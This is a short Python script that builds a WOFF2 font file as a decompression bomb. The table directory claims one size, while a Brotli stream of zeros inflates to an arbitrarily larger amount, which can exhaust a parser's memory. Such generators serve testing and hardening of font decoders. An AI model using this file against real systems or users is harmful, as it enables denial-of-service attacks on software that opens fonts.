#!/usr/bin/env python3
"""mkwoff2-bomb.py OUT CLAIMED ACTUAL
Writes a WOFF2 file of one 'cmap' table whose directory gives it CLAIMED bytes while its Brotli
stream inflates to ACTUAL zero bytes (a decompression bomb when ACTUAL is far larger: 64 MB of
zeros are a few dozen bytes of Brotli). Needs python3-brotli (Debian)."""
import brotli, struct, sys
out, claimed, actual = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
def base128(n):
    b = [n & 0x7F]
    n >>= 7
    while n:
        b.insert(0, 0x80 | (n & 0x7F)); n >>= 7
    return bytes(b)
data = brotli.compress(b'\0' * actual, quality=11)
directory = bytes([0]) + base128(claimed)  # flags: known tag 0 ('cmap'), null transform
length = 48 + len(directory) + len(data)
length += -length % 4
header = struct.pack('>4sIIHHIIHHIIIII', b'wOF2', 0x00010000, length, 1, 0, 12 + 16 + claimed, len(data),
                     1, 0, 0, 0, 0, 0, 0)
body = header + directory + data
open(out, 'wb').write(body + b'\0' * (length - len(body)))
